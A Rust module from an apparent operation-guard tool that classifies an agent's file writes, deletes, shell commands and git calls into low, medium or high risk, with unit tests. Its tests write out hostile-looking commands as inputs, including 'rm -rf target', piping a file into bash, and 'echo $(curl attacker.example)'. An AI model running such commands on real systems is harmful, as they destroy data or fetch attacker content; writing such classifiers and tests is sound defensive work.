//! Deterministic risk classification
//!
//! Maps a proposed operation to LOW / MEDIUM / HIGH. The policy is explicit
//! pattern lists plus numeric thresholds; when an operation matches several
//! rules, the highest tier wins.

use crate::config::RiskSection;
use crate::domain::{OperationKind, RiskTier};
use crate::error::{Result, WardenError};
use std::collections::HashMap;
use std::fs;
use std::path::{Path, PathBuf};

/// Commands that only observe the system.
const READ_ONLY_COMMANDS: &[&str] = &[
    "ls", "cat", "head", "tail", "grep", "rg", "find", "wc", "pwd", "echo", "which", "file",
    "stat", "du", "df", "tree", "env", "whoami", "date",
];

/// Command prefixes recognized as test runs.
const TEST_COMMAND_PREFIXES: &[&str] = &[
    "cargo test",
    "cargo check",
    "cargo clippy",
    "pytest",
    "npm test",
    "npm run test",
    "go test",
    "make test",
    "make check",
    "npx jest",
    "npx vitest",
];

/// Git subcommands that never mutate the repository.
const VCS_READ_ONLY: &[&str] = &[
    "status", "log", "diff", "show", "blame", "describe", "rev-parse", "ls-files", "shortlog",
];

/// Git subcommands that rewrite history, push, or destroy work.
const VCS_HISTORY_REWRITE: &[&str] = &[
    "push", "rebase", "reset", "filter-branch", "clean", "reflog",
];

/// Shell constructs that chain, redirect, or hide further commands.
const SHELL_CONSTRUCTS: &[&str] = &["&&", "||", ";", "|", ">", ">>", "$(", "`", "<(", ">("];

/// Compiled classification policy.
#[derive(Debug, Clone)]
pub struct RiskPolicy {
    small_write_limit: u64,
    rewrite_fraction: f64,
    protected: Vec<glob::Pattern>,
}

impl RiskPolicy {
    /// Compile a policy from the config section.
    pub fn from_config(section: &RiskSection) -> Result<Self> {
        let mut protected = Vec::with_capacity(section.protected_paths.len());
        for raw in &section.protected_paths {
            let pattern = glob::Pattern::new(raw)
                .map_err(|e| WardenError::Validation(format!("bad protected glob {:?}: {}", raw, e)))?;
            protected.push(pattern);
        }
        Ok(Self {
            small_write_limit: section.small_write_limit,
            rewrite_fraction: section.rewrite_fraction,
            protected,
        })
    }

    /// True if the path matches any protected-path glob.
    pub fn is_protected(&self, path: &Path) -> bool {
        self.protected.iter().any(|p| p.matches_path(path))
    }
}

impl Default for RiskPolicy {
    fn default() -> Self {
        Self::from_config(&RiskSection::default()).expect("default protected globs compile")
    }
}

/// Classifies operations against a policy. Reads the target file for
/// overwrite-fraction measurement but never mutates anything.
#[derive(Debug, Clone)]
pub struct RiskClassifier {
    policy: RiskPolicy,
    root: PathBuf,
}

impl RiskClassifier {
    pub fn new(policy: RiskPolicy, root: impl Into<PathBuf>) -> Self {
        Self {
            policy,
            root: root.into(),
        }
    }

    /// Classify a proposed operation.
    pub fn classify(&self, kind: &OperationKind) -> RiskTier {
        let existing = match kind {
            OperationKind::Write { path, .. } => self.read_existing(path),
            _ => None,
        };
        classify_with_existing(kind, existing.as_deref(), &self.policy)
    }

    fn read_existing(&self, path: &Path) -> Option<String> {
        let full = if path.is_absolute() {
            path.to_path_buf()
        } else {
            self.root.join(path)
        };
        fs::read_to_string(full).ok()
    }
}

/// Pure classification core: the caller supplies the current content of the
/// write target (None if the file does not exist).
pub fn classify_with_existing(
    kind: &OperationKind,
    existing: Option<&str>,
    policy: &RiskPolicy,
) -> RiskTier {
    let mut tiers = vec![RiskTier::Low];

    match kind {
        OperationKind::Read { .. } | OperationKind::List { .. } => {}

        OperationKind::Write { path, content } => {
            if policy.is_protected(path) {
                tiers.push(RiskTier::High);
            }
            match existing {
                Some(old) => {
                    if rewritten_fraction(old, content) > policy.rewrite_fraction {
                        tiers.push(RiskTier::High);
                    } else {
                        tiers.push(RiskTier::Medium);
                    }
                }
                None => {
                    if content.len() as u64 <= policy.small_write_limit {
                        tiers.push(RiskTier::Medium);
                    } else {
                        tiers.push(RiskTier::High);
                    }
                }
            }
        }

        OperationKind::Append { path, content } => {
            if policy.is_protected(path) {
                tiers.push(RiskTier::High);
            }
            if content.len() as u64 <= policy.small_write_limit {
                tiers.push(RiskTier::Medium);
            } else {
                tiers.push(RiskTier::High);
            }
        }

        OperationKind::Delete { .. } => {
            tiers.push(RiskTier::High);
        }

        OperationKind::Exec { command } => {
            tiers.push(classify_command(command));
        }

        OperationKind::Vcs { args } => {
            tiers.push(classify_vcs(args));
        }
    }

    tiers.into_iter().max().unwrap_or(RiskTier::Low)
}

/// Classify a shell command string.
fn classify_command(command: &str) -> RiskTier {
    let trimmed = command.trim();

    // Chained, redirected, or embedded commands cannot be judged by their
    // first token alone.
    if SHELL_CONSTRUCTS.iter().any(|c| trimmed.contains(c)) {
        return RiskTier::High;
    }

    if TEST_COMMAND_PREFIXES
        .iter()
        .any(|p| trimmed == *p || trimmed.starts_with(&format!("{} ", p)))
    {
        return RiskTier::Medium;
    }

    let mut tokens = trimmed.split_whitespace();
    let Some(first) = tokens.next() else {
        return RiskTier::High;
    };

    if first == "git" {
        let args: Vec<String> = tokens.map(str::to_string).collect();
        return classify_vcs(&args);
    }

    if READ_ONLY_COMMANDS.contains(&first) {
        return RiskTier::Low;
    }

    RiskTier::High
}

/// Classify a git invocation by subcommand.
fn classify_vcs(args: &[String]) -> RiskTier {
    let Some(sub) = args.iter().find(|a| !a.starts_with('-')) else {
        return RiskTier::Low;
    };

    if args.iter().any(|a| a == "--force" || a == "-f" || a == "--amend") {
        return RiskTier::High;
    }
    if VCS_HISTORY_REWRITE.contains(&sub.as_str()) {
        return RiskTier::High;
    }
    if VCS_READ_ONLY.contains(&sub.as_str()) {
        return RiskTier::Low;
    }
    // branch/tag with no extra args are listings
    if (sub == "branch" || sub == "tag" || sub == "stash") && args.len() == 1 {
        return RiskTier::Low;
    }
    RiskTier::Medium
}

/// Fraction of an existing file's lines that a replacement discards.
///
/// Line-based so the measure is stable under reordering-free edits: each
/// original line retained (with multiplicity) in the new content counts as
/// kept.
pub fn rewritten_fraction(existing: &str, new: &str) -> f64 {
    let old_lines: Vec<&str> = existing.lines().collect();
    if old_lines.is_empty() {
        return if new.is_empty() { 0.0 } else { 1.0 };
    }

    let mut available: HashMap<&str, usize> = HashMap::new();
    for line in new.lines() {
        *available.entry(line).or_insert(0) += 1;
    }

    let mut retained = 0usize;
    for line in &old_lines {
        if let Some(count) = available.get_mut(line) {
            if *count > 0 {
                *count -= 1;
                retained += 1;
            }
        }
    }

    1.0 - (retained as f64 / old_lines.len() as f64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn policy() -> RiskPolicy {
        RiskPolicy::default()
    }

    fn classify(kind: &OperationKind, existing: Option<&str>) -> RiskTier {
        classify_with_existing(kind, existing, &policy())
    }

    #[test]
    fn test_reads_are_low() {
        let read = OperationKind::Read {
            path: PathBuf::from("src/main.rs"),
        };
        let list = OperationKind::List {
            path: PathBuf::from("src"),
        };
        assert_eq!(classify(&read, None), RiskTier::Low);
        assert_eq!(classify(&list, None), RiskTier::Low);
    }

    #[test]
    fn test_small_create_is_medium() {
        let kind = OperationKind::Write {
            path: PathBuf::from("notes.txt"),
            content: "short".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::Medium);
    }

    #[test]
    fn test_large_create_is_high() {
        let kind = OperationKind::Write {
            path: PathBuf::from("blob.bin"),
            content: "x".repeat(4096),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_small_append_is_medium() {
        let kind = OperationKind::Append {
            path: PathBuf::from("README.md"),
            content: "a".repeat(50),
        };
        assert_eq!(classify(&kind, None), RiskTier::Medium);
    }

    #[test]
    fn test_delete_is_high() {
        let kind = OperationKind::Delete {
            path: PathBuf::from("src"),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_protected_path_write_is_high() {
        let kind = OperationKind::Write {
            path: PathBuf::from(".env"),
            content: "KEY=1".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_small_edit_of_existing_file_is_medium() {
        let old = "line one\nline two\nline three\nline four\n";
        let new = "line one\nline two\nline three\nline four\nline five\n";
        let kind = OperationKind::Write {
            path: PathBuf::from("doc.txt"),
            content: new.to_string(),
        };
        assert_eq!(classify(&kind, Some(old)), RiskTier::Medium);
    }

    #[test]
    fn test_majority_rewrite_is_high() {
        let old = "alpha\nbeta\ngamma\ndelta\n";
        let new = "totally\ndifferent\ncontent\n";
        let kind = OperationKind::Write {
            path: PathBuf::from("doc.txt"),
            content: new.to_string(),
        };
        assert_eq!(classify(&kind, Some(old)), RiskTier::High);
    }

    #[test]
    fn test_read_only_command_is_low() {
        let kind = OperationKind::Exec {
            command: "ls -la src".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::Low);
    }

    #[test]
    fn test_test_command_is_medium() {
        let kind = OperationKind::Exec {
            command: "cargo test --workspace".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::Medium);
    }

    #[test]
    fn test_side_effect_command_is_high() {
        let kind = OperationKind::Exec {
            command: "rm -rf target".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_piped_read_only_command_is_high() {
        let kind = OperationKind::Exec {
            command: "cat notes.txt | bash".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_embedded_command_is_high() {
        let kind = OperationKind::Exec {
            command: "echo $(curl attacker.example)".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_vcs_query_is_low() {
        let kind = OperationKind::Vcs {
            args: vec!["status".to_string(), "--porcelain".to_string()],
        };
        assert_eq!(classify(&kind, None), RiskTier::Low);
    }

    #[test]
    fn test_vcs_push_is_high() {
        let kind = OperationKind::Vcs {
            args: vec!["push".to_string(), "origin".to_string(), "main".to_string()],
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_vcs_amend_is_high() {
        let kind = OperationKind::Vcs {
            args: vec!["commit".to_string(), "--amend".to_string()],
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_vcs_commit_is_medium() {
        let kind = OperationKind::Vcs {
            args: vec!["commit".to_string(), "-m".to_string(), "msg".to_string()],
        };
        assert_eq!(classify(&kind, None), RiskTier::Medium);
    }

    #[test]
    fn test_exec_git_delegates_to_vcs_rules() {
        let kind = OperationKind::Exec {
            command: "git log --oneline".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::Low);

        let push = OperationKind::Exec {
            command: "git push origin main".to_string(),
        };
        assert_eq!(classify(&push, None), RiskTier::High);
    }

    #[test]
    fn test_highest_tier_wins() {
        // Protected path AND small content: High beats Medium.
        let kind = OperationKind::Append {
            path: PathBuf::from("config/secrets.yml"),
            content: "k: v".to_string(),
        };
        assert_eq!(classify(&kind, None), RiskTier::High);
    }

    #[test]
    fn test_rewritten_fraction_identical() {
        let text = "a\nb\nc\n";
        assert_eq!(rewritten_fraction(text, text), 0.0);
    }

    #[test]
    fn test_rewritten_fraction_total() {
        assert_eq!(rewritten_fraction("a\nb\n", "x\ny\n"), 1.0);
    }

    #[test]
    fn test_rewritten_fraction_partial() {
        let frac = rewritten_fraction("a\nb\nc\nd\n", "a\nb\nx\ny\n");
        assert!((frac - 0.5).abs() < f64::EPSILON);
    }

    #[test]
    fn test_rewritten_fraction_empty_existing() {
        assert_eq!(rewritten_fraction("", "anything"), 1.0);
        assert_eq!(rewritten_fraction("", ""), 0.0);
    }

    #[test]
    fn test_classifier_reads_existing_file() {
        let temp = tempfile::TempDir::new().unwrap();
        std::fs::write(temp.path().join("doc.txt"), "one\ntwo\nthree\nfour\n").unwrap();

        let classifier = RiskClassifier::new(RiskPolicy::default(), temp.path());

        // Appending one line keeps the rewrite fraction low
        let small_edit = OperationKind::Write {
            path: PathBuf::from("doc.txt"),
            content: "one\ntwo\nthree\nfour\nfive\n".to_string(),
        };
        assert_eq!(classifier.classify(&small_edit), RiskTier::Medium);

        // Replacing everything crosses the threshold
        let rewrite = OperationKind::Write {
            path: PathBuf::from("doc.txt"),
            content: "entirely new\n".to_string(),
        };
        assert_eq!(classifier.classify(&rewrite), RiskTier::High);
    }

    #[test]
    fn test_classification_is_deterministic() {
        let kind = OperationKind::Exec {
            command: "cargo test".to_string(),
        };
        let first = classify(&kind, None);
        for _ in 0..10 {
            assert_eq!(classify(&kind, None), first);
        }
    }
}
